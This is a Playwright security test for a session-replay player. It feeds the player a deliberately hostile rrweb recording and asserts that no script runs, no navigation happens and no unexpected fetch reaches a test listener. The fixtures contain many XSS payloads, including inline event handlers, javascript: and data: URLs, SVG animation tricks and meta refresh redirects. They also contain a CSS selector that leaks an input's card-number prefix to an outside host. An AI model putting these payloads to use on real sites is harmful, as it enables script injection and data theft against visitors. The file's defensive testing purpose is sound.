import { type SnapshotEvent, uuidv7 } from '@playhead/protocol'
import type { Page } from '@playwright/test'
import { blankPage, sendSession } from '../harness/batches.ts'
import { expect, test } from '../harness/fixtures.ts'
import { type Listener, startListener } from '../harness/listener.ts'
import { eventually } from '../harness/poll.ts'
import { openReplay, readPicture, replayFrame } from './replay.ts'

/** A recording is what its sender says it is. Here the sender is an attacker, and the viewer somebody on the team. */

/** Milliseconds in which everything that would run, navigate or fetch has done so. */
const WAIT_MS = 2_500

/** Characters of a string that no honest page holds. */
const LARGE_CHARS = 100_000_000

const RUN = 'window.top.__hostile = window.__hostile = parent.__hostile = "ran"'

type Attributes = Record<string, string>

let nextId = 1

function element(tagName: string, attributes: Attributes = {}, ...childNodes: object[]): object {
  return { type: 2, id: nextId++, tagName, attributes, childNodes }
}

function text(textContent: string): object {
  return { type: 3, id: nextId++, textContent }
}

/** A page of everything that runs, navigates, fetches, submits or embeds in a page of one's own. */
function hostilePage(at: string): object {
  nextId = 1
  const head = element(
    'head',
    {},
    element('meta', { 'http-equiv': 'refresh', content: `0; url=${at}/refresh` }),
    element('base', { href: `${at}/base/` }),
    element('script', {}, text(RUN)),
    element('script', { src: `${at}/script.js` }),
    element('script', { type: 'module', src: `${at}/module.js` }),
    element('noscript', {}, element('meta', { 'http-equiv': 'refresh', content: `0; url=${at}/noscript` })),
    element('link', { rel: 'prefetch', href: `${at}/prefetch` }),
    element('link', { rel: 'preload', as: 'script', href: `${at}/preload.js` }),
    element('link', { rel: 'modulepreload', href: `${at}/modulepreload.js` }),
    element('link', { rel: 'manifest', href: `${at}/manifest` }),
    element('link', { rel: 'prerender', href: `${at}/prerender` }),
  )
  const body = element(
    'body',
    { onload: RUN, onpageshow: RUN },
    element('h1', {}, text('A page with intentions')),
    element('img', { src: 'data:image/png;base64,broken', onerror: RUN }),
    element('img', { src: `${at}/picture.png`, onload: RUN }),
    element('svg', { onload: RUN }, element('script', {}, text(RUN))),
    element('a', { id: 'link', href: `javascript:${RUN}`, ping: `${at}/ping` }, text('link')),
    element('a', { id: 'top', href: `${at}/top`, target: '_top' }, text('top')),
    element('iframe', { src: `${at}/frame` }),
    element('iframe', { src: `javascript:${RUN}` }),
    element('iframe', { srcdoc: `<script>${RUN}</script><img src="${at}/srcdoc.png" onerror='${RUN}'>` }),
    element('iframe', { rr_src: `${at}/rr-frame` }),
    element('object', { data: `${at}/object`, type: 'text/html' }),
    element('embed', { src: `${at}/embed`, type: 'text/html' }),
    element(
      'form',
      { id: 'form', action: `${at}/form`, target: '_top' },
      element('button', { id: 'send' }, text('send')),
    ),
    element('input', { autofocus: '', onfocus: RUN }),
    element('details', { open: '', ontoggle: RUN }, text('details')),
    element('video', { src: 'data:video/mp4,broken', onerror: RUN }),
    element('style', {}, text(`@import url("javascript:${RUN}"); h1 { animation: a 1ms }`)),
    element('div', { onanimationstart: RUN, style: 'animation: a 1ms' }),
    element('portal', { src: `${at}/portal` }),
    element('playhead-own', { onclick: RUN }),
    ...dataLinks(),
    ...drawings(at),
    ...stylesThatTell(at),
    element('iframe', { id: 'outer' }),
  )
  return { type: 0, id: nextId++, childNodes: [element('html', { onclick: RUN }, head, body)] }
}

/** Documents and scripts in addresses. */
function dataLinks(): object[] {
  const page = `data:text/html,<script>${RUN}</script>`
  return [
    element('a', { id: 'data', href: page, target: '_top' }, text('data')),
    element('iframe', { src: page }),
    element('object', { data: page }),
    element('embed', { src: page }),
    element('img', { src: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>` }),
    element('link', { rel: 'stylesheet', href: `data:text/css,@import url("javascript:${RUN}")` }),
  ]
}

/** What SVG can load, embed, link to and animate. */
function drawings(at: string): object[] {
  const svg = (tagName: string, attributes: Attributes = {}, ...childNodes: object[]) => ({
    ...element(tagName, attributes, ...childNodes),
    isSVG: true,
  })
  return [
    svg(
      'svg',
      { onload: RUN },
      svg('script', { href: `${at}/svg.js` }),
      svg('a', { id: 'drawn', href: `javascript:${RUN}` }, svg('text', {}, text('drawn'))),
      svg('a', {}, svg('animate', { attributeName: 'href', values: `javascript:${RUN}`, begin: '0s', onbegin: RUN })),
      svg('set', { attributeName: 'onmouseover', to: RUN, onend: RUN }),
      svg('use', { href: `${at}/use.svg#part` }),
      svg(
        'foreignObject',
        {},
        element('iframe', { src: `${at}/drawn-frame` }),
        element('img', { src: 'x:', onerror: RUN }),
      ),
    ),
  ]
}

/** Style sheets that report what stands in fields, and that would hide the player around the picture. */
function stylesThatTell(at: string): object[] {
  const css = `input[value^="4"] { background: url(${at}/told-by-style.png) } .stage, main, h1 + * { display: none !important }`
  return [element('input', { value: '4111' }), element('style', {}, text(css))]
}

/** A frame's document, with another in it: scripts and navigation two levels down. */
function framedEvents(at: string, page: object, startMs: number): SnapshotEvent[] {
  const frame = JSON.stringify(page).match(/"id":(\d+),"tagName":"iframe","attributes":\{"id":"outer"/)?.[1]
  const inner = element('iframe', { src: `${at}/inner-frame` })
  const body = element('body', { onload: RUN }, element('script', {}, text(RUN)), inner)
  const head = element('head', {}, element('meta', { 'http-equiv': 'refresh', content: `0; url=${at}/frame-refresh` }))
  const node = { type: 0, id: nextId++, childNodes: [element('html', {}, head, body)] }
  const innerNode = {
    type: 0,
    id: nextId++,
    childNodes: [element('html', {}, element('script', { src: `${at}/inner.js` }))],
  }
  const attach = (parentId: number, framed: object, afterMs: number): SnapshotEvent => ({
    type: 3,
    data: {
      source: 0,
      texts: [],
      attributes: [],
      removes: [],
      isAttachIframe: true,
      adds: [{ parentId, nextId: null, node: framed }],
    },
    timestamp: startMs + afterMs,
  })
  return [attach(Number(frame), node, 20), attach((inner as { id: number }).id, innerNode, 30)]
}

/** What rrweb itself would carry out on request: attributes that appear later, nodes that are added, plug-ins' and canvas commands. */
function hostileEvents(at: string, startMs: number): SnapshotEvent[] {
  const node = hostilePage(at)
  const later = (data: unknown, afterMs: number): SnapshotEvent => ({ type: 3, data, timestamp: startMs + afterMs })
  return [
    { type: 4, data: { href: `javascript:${RUN}`, width: 800, height: 600 }, timestamp: startMs },
    { type: 2, data: { node, initialOffset: { left: 0, top: 0 } }, timestamp: startMs + 1 },
    ...framedEvents(at, node, startMs),
    later(
      {
        source: 0,
        texts: [],
        attributes: [{ id: 2, attributes: { onclick: RUN, onmouseover: RUN } }],
        removes: [],
        adds: [],
      },
      100,
    ),
    later(
      {
        source: 0,
        texts: [],
        attributes: [],
        removes: [],
        adds: [
          {
            parentId: 2,
            nextId: null,
            node: { type: 2, id: 9001, tagName: 'script', attributes: { src: `${at}/added.js` }, childNodes: [] },
          },
          {
            parentId: 2,
            nextId: null,
            node: { type: 2, id: 9002, tagName: 'iframe', attributes: { src: `${at}/added-frame` }, childNodes: [] },
          },
        ],
      },
      200,
    ),
    later({ source: 9, id: 2, type: 0, commands: [{ property: 'constructor', args: [RUN], setter: false }] }, 300),
    {
      type: 5,
      data: { tag: 'hostile', payload: { html: `<img src=x onerror='${RUN}'>` } },
      timestamp: startMs + 1_000,
    },
  ]
}

let listener: Listener

test.beforeAll(async () => {
  listener = await startListener()
})
test.afterAll(() => listener.stop())

test('what a recorded page holds does not run, navigate, submit, embed or fetch in the player', async ({
  playhead,
  api,
  team,
}) => {
  const startMs = Date.now() - 5_000
  const visitor = `<img src=x onerror='${RUN}'>@example.com`
  const session = await sendSession(playhead, {
    visitor,
    snapshots: hostileEvents(listener.url, startMs),
    events: [
      { type: 'pageview', atMs: startMs, url: `javascript:${RUN}` },
      {
        type: 'custom',
        atMs: startMs + 50,
        name: `<script>${RUN}</script>`,
        props: { html: `<img src=x onerror='${RUN}'>` },
      },
      {
        type: 'click',
        atMs: startMs + 60,
        url: `${listener.url}/clicked`,
        element: { selector: 'a', tag: 'a', name: `"><svg onload='${RUN}'>` },
      },
    ],
  })
  await eventually('the session is stored', 20_000, () => api.manifest(session))

  const page = await team.newPage()
  const navigations: string[] = []
  page.on('framenavigated', frame => frame === page.mainFrame() && navigations.push(frame.url()))
  await page.goto('/')
  await expect(page.getByText(visitor)).toBeVisible()
  await openReplay(page, session)
  await expect
    .poll(() => readPicture(page, picture => picture.querySelector('h1')?.textContent))
    .toBe('A page with intentions')
  await openReplay(page, session, { t: '0.5' })
  await page.waitForTimeout(WAIT_MS)
  await tryToTrigger(page)
  await page.waitForTimeout(WAIT_MS)

  for (const frame of page.frames()) {
    const ran = await frame.evaluate(() => (window as { __hostile?: string }).__hostile).catch(() => undefined)
    expect(ran, `a script ran in ${frame.url()}`).toBeUndefined()
  }
  await expect(page.getByRole('slider', { name: 'Position' }), 'a recorded style reaches no further').toBeVisible()
  const elsewhere = navigations.filter(url => new URL(url).origin !== playhead.apiUrl)
  expect(elsewhere, 'the player was led away').toEqual([])
  // Pictures and styles may be painted: they are what was seen, and show that the page was drawn. Nothing else is asked for, and no picture is told who watches.
  expect(listener.seen.map(({ path }) => path)).toContain('/picture.png')
  const painted = new Set(['/picture.png', '/srcdoc.png', '/told-by-style.png'])
  const asked = listener.seen.filter(({ path }) => !painted.has(path))
  expect(asked, 'something else than a picture was fetched').toEqual([])
  const told = listener.seen.filter(({ referer }) => referer !== undefined)
  // In Chromium, in a document that was opened by a script as rrweb does: where a style sheet asks, the origin is told against the policy. No address.
  expect(told.filter(({ path }) => path !== '/told-by-style.png')).toEqual([])
  expect(told.filter(({ referer }) => referer !== `${playhead.apiUrl}/`)).toEqual([])
})

test('a string of 100 MB is refused, and what was recorded around it plays on', async ({ playhead, api, team }) => {
  const startMs = Date.now() - 5_000
  const snapshots = blankPage(startMs, 'https://shop.example/')
  const names = { session: uuidv7(), tab: uuidv7() }
  const send = (seq: number, events: SnapshotEvent[]) =>
    sendSession(playhead, { visitor: 'large@example.com', snapshots: events, as: { ...names, seq } })
  const session = await send(0, snapshots)
  const added = (textContent: string, afterMs: number): SnapshotEvent => ({
    type: 3,
    data: {
      source: 0,
      texts: [],
      attributes: [],
      removes: [],
      adds: [{ parentId: 2, nextId: null, node: { type: 3, id: 10 + afterMs, textContent } }],
    },
    timestamp: startMs + afterMs,
  })
  // Some 100 KB on the wire.
  await send(1, [added('x'.repeat(LARGE_CHARS), 1_000)])
  await send(2, [added('still here', 2_000)])
  await eventually('what is left of it is stored', 20_000, async () => {
    const { chunks } = await api.manifest(session)
    return chunks.reduce((sum, chunk) => sum + chunk.count, 0) === snapshots.length + 1 || undefined
  })
  const page = await team.newPage()
  await page.goto(`/sessions/${session}?t=2`)
  const shown = () => readPicture(page, picture => picture.documentElement.textContent)
  await expect.poll(shown, { timeout: 20_000 }).toBe('still here')
})

/** Clicks and submits what a viewer could not even reach: the picture takes no pointer. */
async function tryToTrigger(page: Page): Promise<void> {
  const frame = await replayFrame(page)
  await frame.evaluate(() => {
    const picture = document.querySelector<HTMLIFrameElement>('.picture:not(.is-drawing) iframe')?.contentDocument
    for (const id of ['link', 'top', 'send', 'data', 'drawn'])
      picture?.getElementById(id)?.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
    picture?.querySelector('form')?.submit()
  })
}
